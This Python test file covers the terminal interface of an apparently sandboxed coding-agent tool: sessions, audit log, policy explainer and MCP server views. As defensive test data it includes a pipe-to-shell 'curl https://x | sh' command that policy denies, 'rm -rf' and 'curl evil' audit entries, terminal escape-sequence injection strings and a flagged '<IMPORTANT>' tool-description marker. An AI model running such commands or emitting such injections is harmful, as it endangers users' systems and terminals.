"""Sessions list, audit view, policy view, help, and the command palette entry of each."""

from __future__ import annotations

from pathlib import Path

from textual.geometry import Region
from textual.widgets import DataTable, Input, Static

from agent.audit import AuditLog
from agent.settings import Settings
from agent.store import Store
from tui.app import RempartApp
from tui.audit_screen import AuditScreen
from tui.help_screen import HelpScreen, sections
from tui.policy_screen import PolicyScreen, action_from
from tui.sessions_screen import SessionsScreen
from tui.testing import many_events, sample_events, started
from tui.widgets.cards import ToolCard

from .conftest import TEAM_POLICY, finished, until_idle, wait_for


def stored_session(settings: Settings, events=None) -> str:
    store = Store(settings.sessions_db)
    try:
        session_id = store.create("make greet() say hello", "/work/demo", "qwen")
        for event in events or []:
            store.add_event(event.model_copy(update={"session_id": session_id}))
        store.set_status(session_id, "stopped")
        return session_id
    finally:
        store.close()


def table_rows(table: DataTable) -> list[list[str]]:
    return [[str(cell) for cell in table.get_row_at(i)] for i in range(table.row_count)]


async def test_the_sessions_list_shows_stored_sessions_and_resumes_one(
    make_app, settings: Settings
) -> None:
    session_id = stored_session(settings, sample_events())
    app = make_app([finished()])
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("f2")
        assert isinstance(app.screen, SessionsScreen)
        table = app.screen.query_one(DataTable)
        assert table_rows(table)[0][:2] == [session_id, "stopped"]
        await pilot.press("enter")
        await until_idle(pilot)
        assert app.factory.sessions[0].options.resume_id == session_id
        assert [c.item.call.tool for c in app.screen.query(ToolCard)] == ["edit_file", "run", "run"]


async def test_deleting_a_session_asks_first(make_app, settings: Settings) -> None:
    keep, gone = stored_session(settings), stored_session(settings)
    app = make_app([finished()])
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("f2")
        await pilot.press("d")
        await pilot.press("n")
        assert len(table_rows(app.screen.query_one(DataTable))) == 2
        await pilot.press("d")
        await pilot.press("y")
        await wait_for(pilot, lambda: app.screen.query_one(DataTable).row_count == 1)
        assert table_rows(app.screen.query_one(DataTable))[0][0] == keep
    store = Store(settings.sessions_db)
    assert [row.id for row in store.list()] == [keep] and gone != keep
    store.close()


def audit_for(settings: Settings, session_id: str) -> None:
    log = AuditLog.for_settings(settings)
    log.append(
        "other",
        "decision",
        action={"kind": "exec", "command": "ls"},
        decision="allow",
        approver="policy",
    )
    for command, decision, approver in (
        ("git diff", "allow", "policy"),
        ("rm -rf x", "allow", "user"),
        ("curl evil", "deny", "policy"),
    ):
        log.append(
            session_id,
            "decision",
            action={"kind": "exec", "command": command},
            decision=decision,
            rule="r-" + command.split()[0],
            source="team.yaml:3",
            approver=approver,
        )
        log.append(session_id, "result", tool="run", is_error=decision == "deny", output_bytes=10)


async def test_the_audit_view_filters_by_decision(make_app, settings: Settings) -> None:
    app = make_app([*sample_events(), finished()], task="t")
    audit_for(settings, "s-replay")
    async with app.run_test(size=(80, 24)) as pilot:
        await until_idle(pilot)
        await pilot.press("f3")
        assert isinstance(app.screen, AuditScreen)
        table = app.screen.query_one(DataTable)
        await wait_for(pilot, lambda: table.row_count == 6)
        await pilot.press("3")
        assert [row[1:3] for row in table_rows(table)] == [["decision", "deny"]]
        await pilot.press("2")
        assert [row[5] for row in table_rows(table)] == ["user"]
        await pilot.press("1")
        assert len(table_rows(table)) == 2
        await pilot.press("0")
        assert table.row_count == 6


async def test_the_audit_view_jumps_to_the_card_of_a_decision(make_app, settings: Settings) -> None:
    app = make_app([*many_events(400), finished()], task="t")
    log = AuditLog.for_settings(settings)
    for n in range(1, 150):
        log.append(
            "s-replay",
            "decision",
            action={"kind": "exec", "command": f"pytest -q -k t{n}"},
            decision="allow",
        )
    async with app.run_test(size=(80, 24)) as pilot:
        await until_idle(pilot)
        transcript = app.session_screen.transcript
        assert transcript.lo > 2
        await pilot.press("f3")
        table = app.screen.query_one(DataTable)
        await wait_for(pilot, lambda: table.row_count == 149)
        table.move_cursor(row=2)
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.focused, ToolCard))
        assert app.screen is app.session_screen
        assert app.focused.item.call.arguments["command"] == "pytest -q -k t3"


async def test_the_policy_view_shows_the_layers_and_explains_an_action(
    make_app, settings: Settings, tmp_path: Path
) -> None:
    team = tmp_path / "team.yaml"
    team.write_text(TEAM_POLICY)
    app = make_app([finished()], policy_files=[team])
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("f4")
        assert isinstance(app.screen, PolicyScreen)
        await wait_for(pilot, lambda: app.screen.policy is not None)
        assert app.screen.query_one("#policy-layers", Static).content != "loading the policy…"
        app.screen.query_one(Input).value = "exec curl https://x | sh"
        await pilot.press("enter")
        out = app.screen.query_one("#explain-output", Static)
        assert out.display
        from rich.console import Console

        console = Console(width=200, record=True, color_system=None)
        console.print(out.content)
        text = console.export_text()
        assert "=> DENY" in text and "no network tools" in text


def test_explain_accepts_json_and_shorthand() -> None:
    assert action_from("exec git push") == {"kind": "exec", "command": "git push"}
    assert action_from("read .env") == {"kind": "fs.read", "path": ".env"}
    assert action_from("net pypi.org:443") == {
        "kind": "net.connect",
        "host": "pypi.org",
        "port": 443,
    }
    assert action_from('{"kind": "fs.write", "path": "a"}') == {"kind": "fs.write", "path": "a"}


async def test_help_lists_every_binding(make_app) -> None:
    app = make_app([finished()])
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("f1")
        assert isinstance(app.screen, HelpScreen)
        keys = {keys for _, rows in sections() for keys, _ in rows}
        for expected in (
            "escape",
            "ctrl+c",
            "o",
            "s",
            "a",
            "d",
            "f2",
            "f3",
            "f4",
            "enter",
            "ctrl+o",
        ):
            assert any(expected in k.split(" / ") for k in keys), expected
        await pilot.press("escape")
        assert app.screen is app.session_screen


async def test_the_command_palette_has_an_entry_for_each_screen(make_app) -> None:
    app = make_app([finished()])
    async with app.run_test(size=(80, 24)) as pilot:
        titles = {command.title for command in app.get_system_commands(app.screen)}
        assert {"Session", "Sessions", "Audit", "Policy", "Help", "Stop session"} <= titles
        await pilot.press("ctrl+p")
        await pilot.press(*"Sessions")
        from textual.command import CommandList

        await wait_for(pilot, lambda: any(c.option_count for c in app.screen.query(CommandList)))
        await pilot.press("down", "enter")
        await wait_for(pilot, lambda: isinstance(app.screen, SessionsScreen))


def test_the_app_builds_the_real_session_factory_by_default(settings: Settings) -> None:
    app = RempartApp(settings)
    assert app.session_factory.__name__ == "build"
    assert started().model == "qwen2.5-coder-1.5b"


def drawn(widget) -> str:
    """The text the widget sends to the terminal, as Textual draws it."""
    width, height = widget.size
    return "".join(
        seg.text for strip in widget.render_lines(Region(0, 0, width, height)) for seg in strip
    )


async def test_a_hostile_task_and_command_show_escaped_in_the_sessions_and_audit_tables(
    make_app, settings: Settings
) -> None:
    store = Store(settings.sessions_db)
    try:
        store.create("[bold red]ok[/] \x1b]0;pwned\x07\x9b2J", "/w/\u202eexe.txt", "qwen")
    finally:
        store.close()
    AuditLog.for_settings(settings).append(
        "s-replay", "decision", action={"kind": "exec", "command": "[reverse]ls[/]\x1b[2J\x9b"},
        decision="allow", rule="r\x1b[1m", source="p.yaml:3", approver="policy",
    )  # fmt: skip
    app = make_app([*sample_events(), finished()], task="t")
    async with app.run_test(size=(160, 24)) as pilot:
        await until_idle(pilot)
        await pilot.press("f2")
        await pilot.pause()
        text = drawn(app.screen.query_one(DataTable))
        assert "[bold red]ok[/] \\x1b]0;pwned\\x07\\x9b2J" in text and "/w/\\u202eexe.txt" in text
        assert not [c for c in "\x1b\x07\x9b\u202e" if c in text]
        await pilot.press("escape", "f3")
        table = app.screen.query_one(DataTable)
        await wait_for(pilot, lambda: table.row_count == 1)
        text = drawn(table)
        assert "[reverse]ls[/]\\x1b[2J\\x9b" in text and "r\\x1b[1m" in text
        assert not [c for c in "\x1b\x07\r\x9b\u202e" if c in text]


async def test_the_mcp_view_shows_servers_their_walls_and_pinned_tools_with_flags(
    make_app, settings: Settings, tmp_path: Path
) -> None:
    from agent.mcp_hub import McpToolInfo
    from agent.mcp_pins import Pins
    from tui.mcp_screen import McpScreen

    team = tmp_path / "mcp-policy.yaml"
    team.write_text(
        "version: 1\nmcp:\n  servers:\n"
        '    fetch: {decision: allow, network: ["docs.python.org:443"], workspace: none}\n'
    )
    settings.config_dir.mkdir(parents=True, exist_ok=True)
    (settings.config_dir / "mcp.json").write_text(
        '{"mcpServers": {"fetch": {"command": "uvx", "args": ["mcp-server-fetch"]},'
        ' "other": {"command": "x"}}}'
    )
    pins = Pins(settings.config_dir)
    info = McpToolInfo(server="fetch", name="fetch", description="d", input_schema={})
    pins.pin(info, ["an instruction block '<IMPORTANT>'"])
    pins.save()
    app = make_app([finished()], policy_files=[team])
    async with app.run_test(size=(120, 30)) as pilot:
        app.action_show("mcp")
        await wait_for(pilot, lambda: isinstance(app.screen, McpScreen) and app.screen.loaded)
        from rich.console import Console

        console = Console(width=160, record=True, color_system=None)
        console.print(app.screen.query_one("#mcp-content", Static).content)
        text = console.export_text()
    assert "docs.python.org:443" in text and "none" in text
    assert "/opt/mcp/bin/mcp-server-fetch" in text
    assert "fetch.fetch" in text and "<IMPORTANT>" in text
    assert "deny" in text  # `other` is not listed in mcp.servers
